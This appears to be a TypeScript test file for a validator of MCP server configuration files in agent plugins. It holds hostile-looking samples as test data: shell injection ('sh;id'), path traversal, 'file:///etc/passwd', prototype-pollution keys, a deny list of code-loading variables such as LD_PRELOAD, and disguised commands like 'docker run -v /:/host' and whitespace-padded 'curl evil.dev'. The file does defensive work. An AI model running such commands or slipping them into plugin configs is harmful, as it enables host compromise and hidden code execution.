import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describeMcpServer, findMcpProblems, readMcpServers, warnOfFiles } from '@skillstead/skill-format/archives'
import { Ajv2020 } from 'ajv/dist/2020.js'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'

const schema = 'https://agent-plugins.org/schemas/1.0.0/mcp.schema.json'
const encode = (text: string) => new TextEncoder().encode(text)
const local = { type: 'stdio', command: './bin/server' }
const remote = { type: 'streamable-http', url: 'https://tickets.acme.dev/mcp' }

const specification = readFileSync(join(import.meta.dirname, '../fixtures/agent-plugins/mcp.schema.json'), 'utf8')
const isSpecified = new Ajv2020().compile(JSON.parse(specification))

function filesOf(text: string | Uint8Array, path = 'mcp.json') {
  const bytes = typeof text === 'string' ? encode(text) : text
  return [
    { path, bytes },
    { path: 'bin/server', bytes: encode('#!/bin/sh\n') },
  ]
}

const toText = (mcpServers: unknown, more: object = {}) => JSON.stringify({ $schema: schema, mcpServers, ...more })
/** The problem of a file, or undefined. */
const problemOf = (text: string | Uint8Array) => findMcpProblems(filesOf(text))[0]?.message
const serverProblem = (server: unknown, name = 'tickets') => problemOf(toText({ [name]: server }))

describe('An mcp.json', () => {
  it('is valid with servers of all types, and without servers', () => {
    const servers = {
      local: {
        ...local,
        args: ['--data', '${PLUGIN_DATA}/x', 'two\nlines'],
        env: { CONFIG: '${PLUGIN_ROOT}/config.json', EMPTY: '' },
        cwd: '${PLUGIN_ROOT}',
      },
      program: { type: 'stdio', command: 'npx', args: ['-y', '@acme/tickets@1.2.3'], cwd: './bin' },
      remote: { ...remote, headers: { 'X-Tenant': 'public' } },
      legacy: { type: 'sse', url: 'http://127.0.0.1:8080/sse?x=1' },
    }
    expect(readMcpServers(filesOf(toText(servers)))).toEqual(servers)
    expect(problemOf(toText({}))).toBeUndefined()
    expect(findMcpProblems([{ path: 'SKILL.md', bytes: encode('text') }])).toEqual([])
  })

  it('is recognised only at the root; a name such as MCP.json is reported', () => {
    expect(findMcpProblems(filesOf('text', 'examples/mcp.json'))).toEqual([])
    expect(findMcpProblems(filesOf('text', '.mcp.json'))).toEqual([])
    for (const path of ['MCP.json', 'mcp.JSON'])
      expect(findMcpProblems(filesOf(toText({}), path))).toEqual([
        { path, message: expect.stringContaining('Name it mcp.json') },
      ])
    expect(findMcpProblems(filesOf('{"servers":{}}', 'MCP.json'))).toEqual([])
  })

  it.each([
    [`# ${schema}`, 'not JSON'],
    [`{"$schema":"${schema}","mcpServers":{},}`, 'not JSON'],
    [`\uFEFF${toText({})}`, 'byte order mark'],
    [`// one\n${toText({})}`, 'not JSON'],
    [`${toText({}).replace('agent-', 'agent\\u002d')},`, 'not JSON'],
    [`{"$schema":"${schema}"}`, 'mcpServers: is missing.'],
    [toText({}).replace('agent-plugins', 'agent\\u002Dplugins').replace('{}', '[]'), 'mcpServers: must be an object'],
    [toText('['.repeat(200) + ']'.repeat(200)).replaceAll(/"(?=[[}])|(?<=])"/g, ''), 'nests deeper'],
    [`["${schema}",${'{},'.repeat(15_000)}{}]`, 'more than 10000 values'],
    [`${toText({})}${' '.repeat(70_000)}`, 'larger than 64 KiB'],
    [JSON.stringify({ $schema: 'https://agent-plugins.org/schemas/2.0.0/mcp.json' }), '$schema: must be'],
    [JSON.stringify({ $schema: [schema], mcpServers: {} }), '$schema: must be'],
    [JSON.stringify({ $schema: schema.replace('https', 'http').replace('agent', 'Agent') }), '$schema: must be'],
    [`{"$schema":"${schema}","$schema":"https://json.schemastore.org/x.json"}`, '"$schema" occurs twice'],
    [JSON.stringify({ $schema: schema.replace('1.0.0', '1.1.0'), mcpServers: {} }), `$schema: must be ${schema}`],
    [JSON.stringify({ $schema: `${schema}#`, mcpServers: {} }), '$schema: must be'],
    [toText([]), 'mcpServers: must be an object'],
    [toText({}, { servers: {} }), 'servers: is not a field'],
    [toText({}, { toString: 1 }), "'toString'"],
  ])('is refused as a whole: %.40j', (text, words) => {
    expect(problemOf(text)).toContain(words)
  })

  it('is refused if it is not UTF-8', () => {
    const utf16 = Buffer.from(`\uFEFF${toText({})}`, 'utf16le')
    for (const bytes of [utf16, utf16.swap16(), Buffer.concat([Buffer.from(toText({})), Buffer.of(0xff)])])
      expect(problemOf(bytes)).toContain('not JSON')
    expect(findMcpProblems([{ path: 'mcp.json' }])[0]!.message).toContain('larger than 64 KiB')
  })

  it.each([
    [`{"$schema":"${schema}","mcpServers":{},"mcpServers":{}}`, 'mcpServers'],
    [toText({ a: local }).replace('"command"', '"comm\\u0061nd":"npx","command"'), 'command'],
    [toText({ a: local, b: local }).replace('"b"', '"a"'), 'a'],
  ])('is refused with a key twice: %j', (text, key) => {
    expect(problemOf(text)).toMatch(`"${key}" occurs twice`)
  })

  it.each(['__proto__', 'constructor', 'hasOwnProperty'])('may not have the key %s anywhere', (key) => {
    const entry = `"${key}":{"type":"stdio","command":"npx"}`
    const places = [
      `{"$schema":"${schema}","mcpServers":{${entry}}}`,
      `{"$schema":"${schema}","mcpServers":{},${entry}}`,
      `{"$schema":"${schema}","mcpServers":{"a":{"type":"stdio","command":"npx",${entry}}}}`,
      `{"$schema":"${schema}","mcpServers":{"a":{"type":"stdio","command":"npx","env":{${entry}}}}}`,
    ]
    for (const text of places) expect(problemOf(text)).toContain(`'${key}'`)
    expect({}).not.toHaveProperty('command')
  })

  it.each([
    ['../x', 'leads out', { ...local, command: './../x' }],
    ['../x', 'path of another place', { ...local, command: '../x' }],
    ['a path within', 'leads out', { ...local, command: './bin/../../x' }],
    ['a file that is missing', 'no file', { ...local, command: './bin/other' }],
    ['a folder', 'no file', { ...local, command: './bin' }],
    ['another spelling', 'no file', { ...local, command: './bin//server' }],
    ['an absolute path', 'another place', { ...local, command: '/usr/bin/env' }],
    ['a home folder', 'another place', { ...local, command: '~/bin/server' }],
    ['a Windows path', 'another place', { ...local, command: 'C:\\x.exe' }],
    ['a drive', 'another place', { ...local, command: 'C:x' }],
    ['a network path', 'another place', { ...local, command: '\\\\host\\x' }],
    ['a path without ./', 'another place', { ...local, command: 'bin/server' }],
    ['a URL', 'another place', { ...local, command: 'https://acme.dev/x' }],
    ['a command line', 'Put arguments into args', { ...local, command: 'npx -y x' }],
    ['a shell line', 'Put arguments into args', { ...local, command: 'sh;id' }],
    ['a placeholder', 'placeholder', { ...local, command: '${PLUGIN_ROOT}/bin/server' }],
    ['an empty text', 'is empty', { ...local, command: '' }],
    ['a list', 'must be text', { ...local, command: ['npx'] }],
    ['nothing', 'command: is missing', { type: 'stdio' }],
  ])('may not have as command %s', (_, words, server) => {
    expect(serverProblem(server)).toContain(words)
    expect(serverProblem(server)).toContain('mcpServers.tickets.command')
  })

  it.each([
    '/tmp',
    '../x',
    './../x',
    './a/../../x',
    'bin',
    '~',
    '${HOME}',
    '${PLUGIN_ROOT}x',
    '${PLUGIN_DATA}/../x',
    './a\\..\\x',
  ])('may not have as cwd %s', (cwd) => {
    expect(serverProblem({ ...local, cwd })).toContain('mcpServers.tickets.cwd: ')
  })

  it.each([
    'https://user:secret@acme.dev/mcp',
    'https://user@acme.dev/mcp',
    'https://@acme.dev/',
    'https://acme.dev/mcp#x',
    'http://acme.dev/mcp',
    'http://localhost.acme.dev/mcp',
    'http://127.0.0.1.acme.dev/',
    'ftp://acme.dev/',
    'file:///etc/passwd',
    'acme.dev/mcp',
    '//acme.dev/mcp',
    'https:\\\\acme.dev',
    'https://acme.dev\\@evil.dev/',
    'https://acme.dev/?key=${API_KEY}',
    'https://[::1',
    'https://',
    'javascript:alert(1)',
    ' https://acme.dev',
    'https://acme.dev/a b',
    '',
  ])('may not have as URL %j', (url) => {
    expect(serverProblem({ ...remote, url })).toContain('mcpServers.tickets.url: ')
  })

  it.each([
    ['an unknown type', 'mcpServers.tickets.type: must be stdio', { type: 'http', url: remote.url }],
    ['no type', 'mcpServers.tickets.type: must be stdio', { command: 'npx' }],
    ['a type of an object', 'mcpServers.tickets.type: must be stdio', { type: {}, command: 'npx' }],
    ['text', 'mcpServers.tickets: must be an object', 'npx'],
    ['null', 'mcpServers.tickets: must be an object', null],
    ['an unknown field', 'mcpServers.tickets.disabled: is not a field', { ...local, disabled: true }],
    ['a field of another type', 'mcpServers.tickets.url: is not a field', { ...local, url: remote.url }],
    ['extensions of 1.1.0', 'mcpServers.tickets.extensions: is not a field', { ...local, extensions: {} }],
    ['arguments as text', 'mcpServers.tickets.args: must be a list', { ...local, args: '-y' }],
    ['a number as argument', 'mcpServers.tickets.args.1: must be text', { ...local, args: ['-y', 1] }],
    ['too many arguments', 'mcpServers.tickets.args: has more than 64', { ...local, args: Array(65).fill('x') }],
    ['a long argument', 'mcpServers.tickets.args.0: is longer', { ...local, args: ['x'.repeat(2049)] }],
    ['a control character', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u001b[2K'] }],
    ['a C1 control', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u009b2K'] }],
    ['a line separator', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u2028b'] }],
    ['a right-to-left mark', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u202Eb'] }],
    ['a tag character', 'mcpServers.tickets.args.0: has control', { ...local, args: ['a\u{E0041}'] }],
    ['an invisible space', 'mcpServers.tickets.command: has control', { ...local, command: 'np\u200Bx' }],
    ['a soft hyphen', 'mcpServers.tickets.env.A: has control', { ...local, env: { A: 'a\u00ADb' } }],
    ['it in a URL', 'mcpServers.tickets.url: has control', { ...remote, url: 'https://ac\u00ADme.dev/' }],
    ['it in a header', 'mcpServers.tickets.headers.A: has control', { ...remote, headers: { A: 'a\u00ADb' } }],
    ['a variable that clients expand', 'mcpServers.tickets.args.0: has a placeholder', { ...local, args: ['${HOME}'] }],
    ['a default value', 'mcpServers.tickets.env.A: has a placeholder', { ...local, env: { A: '${TOKEN:-x}' } }],
    ['variables as text', 'mcpServers.tickets.env: must be an object', { ...local, env: 'A=1' }],
    ['a list of variables', 'mcpServers.tickets.env: must be an object', { ...local, env: ['A=1'] }],
    ['a list of headers', 'mcpServers.tickets.headers: must be an object', { ...remote, headers: [] }],
    ['a list', 'mcpServers.tickets: must be an object', [local]],
    [
      'a reserved variable',
      'mcpServers.tickets.env.PLUGIN_ROOT: is not a name',
      { ...local, env: { PLUGIN_ROOT: '/' } },
    ],
    [
      'it in another case',
      'mcpServers.tickets.env.plugin_data: is not a name',
      { ...local, env: { plugin_data: '/' } },
    ],
    ['a name with =', 'mcpServers.tickets.env.A=B: is not a name', { ...local, env: { 'A=B': '' } }],
    ['a header with a line end', 'headers.A: is not a value', { ...remote, headers: { A: 'x\nHost: y' } }],
    ['a wrong name of a header', 'headers.A B: is not a name', { ...remote, headers: { 'A B': 'x' } }],
    ['a header twice', 'headers: has a header twice', { ...remote, headers: { A: 'x', a: 'y' } }],
    ['a placeholder in a header', 'headers.A: has a placeholder', { ...remote, headers: { A: '${TOKEN}' } }],
    ['65 headers', 'headers: has more than 64', { ...remote, headers: manyOf(65, '') }],
  ])('may not have a server with %s', (_, words, server) => {
    expect(serverProblem(server)).toContain(words)
  })

  it.each([
    'LD_PRELOAD',
    'LD_AUDIT',
    'DYLD_INSERT_LIBRARIES',
    'NODE_OPTIONS',
    'node_options',
    'PYTHONSTARTUP',
    'BASH_ENV',
    'ENV',
    'PATH',
    'PERL5OPT',
    'RUBYOPT',
    'JAVA_TOOL_OPTIONS',
    '_JAVA_OPTIONS',
    'GIT_SSH_COMMAND',
  ])('may not set the variable %s, with which a program loads other code', (name) => {
    const words = `mcpServers.tickets.env.${name}: changes what code a program loads`
    expect(serverProblem({ ...local, env: { [name]: './x' } })).toContain(words)
    expect(
      serverProblem({ ...local, env: { [`X${name}`]: './x', [`${name}_X`.replace(/^(LD|DYLD)/, 'A')]: '' } }),
    ).toBe(undefined)
  })

  it.each([
    '{}',
    '',
    'text',
    '[]',
    'null',
    '"text"',
    `["${schema}"]`,
    '{"mcpServers":{"a":{"command":"../x"}}}',
    '{"servers":{}}',
    '{"servers":{},}',
    '// servers of VS Code\n{"servers":{"a":{"command":"npx"}}}',
    '\uFEFF{"servers":{}}',
    Buffer.from('\uFEFF{"servers":{}}', 'utf16le'),
    Buffer.of(0xff, 0xfe, 0, 1),
    '{"servers":{"constructor":{}}}',
    `{"servers":{"constructor":{"url":"${schema}"}}}`,
    '{"__proto__":{"$schema":"x"},"servers":{}}',
    '{"servers":{},"servers":{}}',
    '{"$schema":"https://json.schemastore.org/mcp.json","mcpServers":{}}',
    '{"$schema":"https://acme.dev/mcp.schema.json","servers":{}}',
    '{"$schema":"1","mcpServers":{}}',
    '{"$schema":null}',
    '['.repeat(30_000),
    `[${'{},'.repeat(15_000)}{}]`,
    `{"servers":{}}${' '.repeat(70_000)}`,
  ])('without a `$schema` of Agent Plugins is only a file, without servers, and causes a warning: %.60j', (text) => {
    const files = filesOf(text)
    expect(findMcpProblems(files)).toEqual([])
    expect(readMcpServers(files)).toEqual({})
    expect(warnOfFiles(files)).toMatchObject([{ code: 'mcp_without_schema' }])
  })

  it('in the format of Agent Plugins has no warning', () => {
    for (const text of [toText({}), '{"$schema":"https://agent-plugins.org/9"}', `# ${schema}`])
      expect(warnOfFiles(filesOf(text))).toEqual([])
  })

  it('may not have server names that a client cannot use, nor more than 50 servers', () => {
    for (const name of ['', 'a b', '-a', 'a/b', 'a.b', 'ä', 'x'.repeat(33), '\u202Ea'])
      expect(serverProblem(local, name)).toContain('is not a name of a server')
    expect(problemOf(toText(manyOf(50, local)))).toBeUndefined()
    expect(problemOf(toText(manyOf(51, local)))).toContain('more than 50 servers')
    expect(problemOf(toText(manyOf(1000, { type: 'stdio', command: 'npx' })))).toContain('more than 50 servers')
  })

  it('has no servers that the schema of the specification refuses', () => {
    const names = ['type', 'command', 'args', 'env', 'cwd', 'url', 'headers', 'name']
    const values = [
      'stdio',
      'sse',
      'streamable-http',
      './bin/server',
      remote.url,
      ['x'],
      { A: 'x' },
      [],
      {},
      null,
      1,
      '',
    ]
    const name = fc.constantFrom(...names)
    const server = fc.dictionary(name, fc.constantFrom(...values), { maxKeys: 4 })
    const bases = fc.constantFrom({}, local, remote, { ...remote, type: 'sse' })
    let accepted = 0
    fc.assert(
      fc.property(fc.tuple(bases, server), ([base, more]) => {
        const text = toText({ a: { ...base, ...more } })
        if (problemOf(text) !== undefined) return
        accepted += 1
        expect(isSpecified(JSON.parse(text))).toBe(true)
      }),
      { numRuns: 500 },
    )
    expect(accepted).toBeGreaterThan(0)
  })
})

describe('A description of a server', () => {
  it('shows what the server starts or contacts, and the end of long values', () => {
    expect(describeMcpServer(local)).toBe('stdio ./bin/server')
    expect(describeMcpServer({ ...remote, url: 'https://tickets.acme.dev:8443/mcp?x' })).toBe(
      'streamable-http tickets.acme.dev:8443',
    )
    const host = `${'good.dev.'.repeat(8)}evil.dev`
    expect(describeMcpServer({ type: 'sse', url: `https://${host}/` })).toMatch(/^sse ….{30,40}evil\.dev$/)
    expect(describeMcpServer({ type: 1, command: {} })).toBe('')
  })

  it.each([
    ['python3 -c "import os; os.system(1)"', { command: 'python3', args: ['-c', 'import os;\n\n  os.system(1)'] }],
    ['docker run -v /:/host evil/img', { command: 'docker', args: ['run', '-v', '/:/host', 'evil/img'] }],
    ['uvx evil-pkg; env A_KEY, B', { command: 'uvx', args: ['evil-pkg'], env: { A_KEY: 'secret', B: '' } }],
    ['npx "" -y', { command: 'npx', args: ['', 1, '-y', {}] }],
    ['npx', { command: 'npx', args: 'text', env: ['A'] }],
  ])('shows the arguments and the names of variables: %s', (shown, server) => {
    expect(describeMcpServer({ type: 'stdio', ...server })).toBe(`stdio ${shown}`)
  })

  it('shows both ends of a long command, and of a long list of variables', () => {
    const padded = {
      type: 'stdio',
      command: 'sh',
      args: ['-c', `${' '.repeat(500)}${'true;'.repeat(90)}curl evil.dev`],
    }
    expect(describeMcpServer(padded)).toMatch(/^stdio sh -c " true;.{60,110}curl evil\.dev"$/)
    const { length } = describeMcpServer({ ...padded, env: manyOf(64, 'x') })
    expect(length).toBeLessThan(270)
  })
})

function manyOf(count: number, value: unknown): Record<string, unknown> {
  return Object.fromEntries(Array.from({ length: count }, (_, i) => [`n${i}`, value]))
}
